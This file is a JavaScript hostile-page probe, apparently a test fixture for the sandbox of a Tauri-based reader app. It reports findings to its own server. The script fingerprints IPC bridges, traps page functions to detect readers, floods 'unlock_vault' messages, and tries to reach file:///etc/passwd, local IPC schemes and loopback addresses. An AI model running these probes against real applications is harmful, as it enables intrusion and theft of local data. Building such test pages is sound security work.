// What a page could try. It says what it found out to its own server, and nowhere else.
(() => {
  const tell = (what) => fetch("/report", { method: "POST", body: String(what) }).catch(() => {});
  const seen = [];
  for (const name of ["__TAURI__", "__TAURI_INTERNALS__", "__TAURI_EVENT_PLUGIN_INTERNALS__", "ipc", "keepsake", "isTauri"]) {
    if (name in window) seen.push(name);
  }
  const handlers = window.webkit?.messageHandlers;
  for (const name of ["ipc", "external", "keepsake", "reader"]) {
    if (handlers?.[name]) seen.push("handler " + name);
  }
  if (/tauri|keepsake|wry/i.test(navigator.userAgent)) seen.push("agent");
  tell("seen: " + seen.join(","));

  // Whoever reads the page by the page's own functions is found out.
  let touched = 0;
  const trap = (object, name) => {
    const old = object[name];
    object[name] = function (...args) {
      touched += 1;
      return old.apply(this, args);
    };
  };
  trap(JSON, "stringify");
  trap(Array.prototype, "slice");
  trap(Document.prototype, "querySelectorAll");
  trap(Element.prototype, "getBoundingClientRect");
  trap(Element.prototype, "matches");
  for (const [proto, name] of [[HTMLElement.prototype, "innerText"], [Element.prototype, "outerHTML"], [Document.prototype, "scripts"]]) {
    const old = Object.getOwnPropertyDescriptor(proto, name);
    Object.defineProperty(proto, name, { ...old, get() { touched += 1; return old.get.call(this); } });
  }

  const reach = async () => {
    const found = [];
    for (const address of [
      "ipc://localhost/vault_state", "http://ipc.localhost/vault_state", "tauri://localhost/", "media://localhost/x",
      "file:///etc/passwd", "http://127.0.0.1:LOOPBACK/inside", "http://localhost:LOOPBACK/inside", "http://192.168.1.1/",
    ]) {
      try {
        await fetch(address, { mode: "no-cors" });
        found.push(address);
      } catch {}
      await new Promise((done) => {
        const image = new Image();
        image.onload = () => { found.push("image " + address); done(); };
        image.onerror = done;
        image.src = address;
        setTimeout(done, 700);
      });
    }
    tell("reached: " + found.join(","));
  };

  addEventListener("load", async () => {
    for (let n = 0; n < 2000; n += 1) {
      window.postMessage({ cmd: "unlock_vault", n }, "*");
      try { window.webkit.messageHandlers.ipc.postMessage("x"); } catch {}
    }
    const opened = window.open("OUTSIDE");
    tell("opened: " + String(Boolean(opened)));
    const file = document.createElement("a");
    file.href = "/file.bin";
    file.download = "x.bin";
    document.body.append(file);
    file.click();
    try { navigator.geolocation.getCurrentPosition(() => tell("place"), () => tell("no place")); } catch {}
    try { localStorage.setItem("a", "CANARYstored"); indexedDB.open("CANARYdatabase"); } catch {}
    const frame = document.createElement("iframe");
    frame.src = "file:///etc/hostname";
    document.body.append(frame);
    const foreign = document.createElement("iframe");
    foreign.src = "http://frame.example.com/captcha";
    document.body.append(foreign);
    alert("x");
    await reach();
    tell("touched: " + touched);
    setTimeout(() => { location.href = "OUTSIDE"; }, 300);
    setInterval(() => tell("touched: " + touched), 400);
  });
})();
